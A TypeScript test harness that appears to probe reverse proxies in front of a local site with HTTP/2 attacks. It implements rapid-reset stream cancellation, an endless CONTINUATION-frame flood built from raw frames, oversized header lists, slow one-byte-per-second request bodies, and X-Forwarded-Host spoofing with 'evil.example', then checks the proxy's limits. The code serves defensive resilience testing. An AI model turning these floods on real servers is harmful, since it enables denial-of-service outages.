import { createServer, type IncomingHttpHeaders } from 'node:http'
import { type ClientHttp2Session, connect, constants } from 'node:http2'
import type { AddressInfo } from 'node:net'
import { setTimeout as pause } from 'node:timers/promises'
import { connect as connectTls } from 'node:tls'
import { type Attack, type AttackRow, atMost, HOST, type Target } from '#lab/attack/arena.ts'
import { PROXIES, type ReverseProxy, startProxy } from '#lab/attack/proxy.ts'

/** The proxy is asked by the name of the site, at an address of this machine. */
const authorities = new WeakMap<ClientHttp2Session, string>()

function open({ url }: ReverseProxy): ClientHttp2Session {
  const session = connect(url, {
    rejectUnauthorized: false,
    servername: HOST,
    // Node would refuse to send large header lists.
    maxSendHeaderBlockLength: 1024 * 1024,
  })
  authorities.set(session, `${HOST}:${new URL(url).port}`)
  return session.on('error', () => {})
}

/** Status 0: no response. `leave` cancels it at once; `body` is sent a piece a second. */
function ask(
  session: ClientHttp2Session,
  path: string,
  more: { headers?: Record<string, string>; leave?: boolean; body?: string } = {},
): Promise<{ status: number }> {
  return new Promise((resolve) => {
    if (session.destroyed || session.closed) return resolve({ status: 0 })
    let status = 0
    const stream = session.request(
      {
        ':path': path,
        ':authority': authorities.get(session) ?? HOST,
        ...(more.body === undefined ? {} : { ':method': 'POST', 'content-type': 'application/json' }),
        ...more.headers,
      },
      { endStream: more.body === undefined },
    )
    stream.on('response', (headers) => {
      status = headers[':status'] ?? 0
    })
    stream.on('error', () => {})
    stream.on('close', () => resolve({ status }))
    stream.resume()
    // Once its headers are on their way.
    if (more.leave) stream.once('ready', () => setImmediate(() => stream.close(constants.NGHTTP2_CANCEL)))
    if (more.body === undefined) return
    let at = 0
    const timer = setInterval(() => {
      if (stream.destroyed || at >= (more.body?.length ?? 0)) return clearInterval(timer)
      stream.write(more.body?.[at++])
    }, 1_000)
    stream.once('close', () => clearInterval(timer))
  })
}

/** HEADERS without an end, and CONTINUATION frames for as long as the other side takes them. */
function continueForEver({ url }: ReverseProxy): Promise<number> {
  const frame = (type: number, stream: number, payload: Buffer) => {
    const head = Buffer.alloc(9)
    head.writeUIntBE(payload.length, 0, 3)
    head[3] = type
    head.writeUInt32BE(stream, 5)
    return Buffer.concat([head, payload])
  }
  // A literal header without indexing, of 16 kB, in each frame.
  const header = Buffer.concat([Buffer.from([0, 1, 0x78, 0x7f, 0x81, 0x7d]), Buffer.alloc(16_000, 'a')])
  return new Promise((resolve) => {
    let sent = 0
    const { port } = new URL(url)
    const socket = connectTls({
      host: '127.0.0.1',
      port: Number(port),
      rejectUnauthorized: false,
      servername: HOST,
      ALPNProtocols: ['h2'],
    })
    const write = () => {
      while (sent < 4_000 && !socket.destroyed) {
        sent += 1
        if (!socket.write(frame(9, 1, header))) return void socket.once('drain', write)
      }
      socket.destroy()
    }
    socket.on('secureConnect', () => {
      socket.write('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n')
      socket.write(frame(4, 0, Buffer.alloc(0)))
      socket.write(frame(1, 1, Buffer.from([0x82])))
      write()
    })
    socket.on('error', () => {})
    socket.on('close', () => resolve(sent))
    socket.resume()
  })
}

async function floods(proxy: ReverseProxy, site: Target): Promise<AttackRow[]> {
  const rows: AttackRow[] = []
  const statuses = new Map<number, number>()
  const each = (count: number, work: (index: number) => Promise<{ status: number }>) =>
    Promise.all(
      Array.from({ length: count }, async (_, index) => {
        const { status } = await work(index)
        statuses.set(status, (statuses.get(status) ?? 0) + 1)
      }),
    )
  const calculator = (index: number) => `/beregner/branche?branche=sportsklub&pris=${index}`
  const kinds: [string, () => Promise<unknown>][] = [
    [
      'rapid reset: 5,000 streams, each cancelled at once',
      async () => {
        for (let round = 0; round < 50; round++) {
          const session = open(proxy)
          await each(100, (index) => ask(session, calculator(round * 100 + index), { leave: true }))
          session.destroy()
        }
      },
    ],
    [
      '800 streams of 8 connections',
      async () => {
        const sessions = Array.from({ length: 8 }, () => open(proxy))
        await each(800, (index) => ask(sessions[index % 8] as ClientHttp2Session, calculator(index)))
        for (const session of sessions) session.destroy()
      },
    ],
    [
      '20 header lists of 200 kB',
      () =>
        each(20, async () => {
          const session = open(proxy)
          const headers = Object.fromEntries(
            Array.from({ length: 200 }, (_, at) => [`x-${at}`, 'a'.repeat(1_000)]),
          )
          const answer = await Promise.race([ask(session, '/', { headers }), pause(5_000, { status: 0 })])
          session.destroy()
          return answer
        }),
    ],
    ['header lists without end', () => Promise.all(Array.from({ length: 4 }, () => continueForEver(proxy)))],
    [
      '200 bodies of a letter a second',
      async () => {
        const session = open(proxy)
        const slow = each(200, () => ask(session, '/api/leads/create', { body: '{"a":"bcdefghij"}' }))
        await Promise.race([slow, pause(6_000)])
        session.destroy()
        await slow
      },
    ],
  ]
  for (const [name, flood] of kinds) {
    statuses.clear()
    let failed = 0
    let visits = 0
    let isOver = false
    let proxyMemory = proxy.memory()
    const before = proxyMemory
    const idle = site.memory()
    const most = await site.mostMemoryDuring(async () => {
      const visiting = (async () => {
        for (; !isOver || visits < 5; visits++) {
          const session = open(proxy)
          if ((await ask(session, '/')).status !== 200) failed += 1
          session.destroy()
          proxyMemory = Math.max(proxyMemory, proxy.memory())
          await pause(50)
        }
      })()
      await flood()
      isOver = true
      await visiting
    })
    const heard = [...statuses].map(([status, times]) => `${times} × ${status || 'none'}`).join(', ')
    // A proxy waits for 30 s: on a busy machine the last of 800 pages take longer.
    const wrong = [...statuses.keys()].filter((status) => status >= 500 && ![503, 504].includes(status))
    rows.push(
      {
        tried: `${proxy.name}, ${name}`,
        measured: `${heard || 'closed'}; ${failed} of ${visits} visitors failed`,
        bound: 'no 5xx but 503 and 504, no visitor fails',
        held: wrong.length === 0 && failed === 0,
      },
      atMost(`${proxy.name}, the same: the site`, most - idle, 150, 'MB above idle'),
      atMost(`${proxy.name}, the same: the proxy`, proxyMemory - before, 150, 'MB above idle'),
    )
  }
  return rows
}

/** What a visitor says of the host is replaced by what the proxy knows. */
async function spoofing(name: (typeof PROXIES)[number]): Promise<AttackRow[]> {
  let reported: IncomingHttpHeaders = {}
  const upstream = createServer((incoming, outgoing) => {
    reported = incoming.headers
    outgoing.end('OK')
  })
  await new Promise<void>((resolve) => upstream.listen(0, '127.0.0.1', resolve))
  const proxy = await startProxy(name, (upstream.address() as AddressInfo).port)
  if (proxy === null) return []
  const session = open(proxy)
  const headers = { 'x-forwarded-host': 'evil.example', 'x-forwarded-proto': 'http' }
  await ask(session, '/spoofed', { headers })
  session.destroy()
  await proxy.stop()
  upstream.close()
  upstream.closeAllConnections()
  const host = String(reported['x-forwarded-host'])
  const scheme = reported['x-forwarded-proto']
  return [
    {
      tried: `${proxy.name}, a visitor's own X-Forwarded-Host and -Proto`,
      measured: `${host.replace(/:\d+$/, '')} and ${scheme} arrive`,
      bound: `${HOST} and https`,
      held: host.replace(/:\d+$/, '') === HOST && scheme === 'https',
    },
  ]
}

/** HTTP/2, which only a proxy speaks. Not run where it is not installed. */
export const attack: Attack = async ({ start, rows, notRun }) => {
  const site = await start()
  for (const name of PROXIES) {
    const proxy = await startProxy(name, site.port)
    if (proxy === null) {
      notRun(`HTTP/2 through ${name}, which is not installed`)
      continue
    }
    rows.push(...(await spoofing(name)))
    try {
      rows.push(...(await floods(proxy, site)))
    } finally {
      await proxy.stop()
    }
  }
  return rows
}
